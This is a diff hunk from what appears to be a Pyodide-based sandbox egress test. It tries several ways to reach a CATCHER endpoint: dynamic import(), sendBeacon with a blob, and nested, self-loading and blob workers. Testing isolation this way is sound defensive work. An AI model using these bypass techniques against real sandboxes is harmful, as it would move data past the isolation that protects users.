@@ -104,7 +104,7 @@ attempt("import()", lambda: js.Function("u", "return import(u)")(CATCHER + "/mod
 attempt("run_js import()", lambda: __import__("pyodide.code").code.run_js("import('" + CATCHER + "/module2.js')"))
 attempt("sendBeacon", lambda: js.navigator.sendBeacon(CATCHER + "/beacon", blob))
 attempt("nested worker", lambda: nested(CATCHER + "/worker.js"))
-attempt("nested site worker", lambda: nested("worker.js?connect=" + js.encodeURIComponent(CATCHER)))
+attempt("nested site worker", lambda: nested(js.location.pathname.split("/")[-1] + "?connect=" + js.encodeURIComponent(CATCHER)))  # this very script
 attempt("nested blob worker", blob_worker)
 attempt("Cache API", lambda: js.caches.keys())
 # a request for the endpoint's origin but outside its path: the worker adds no key
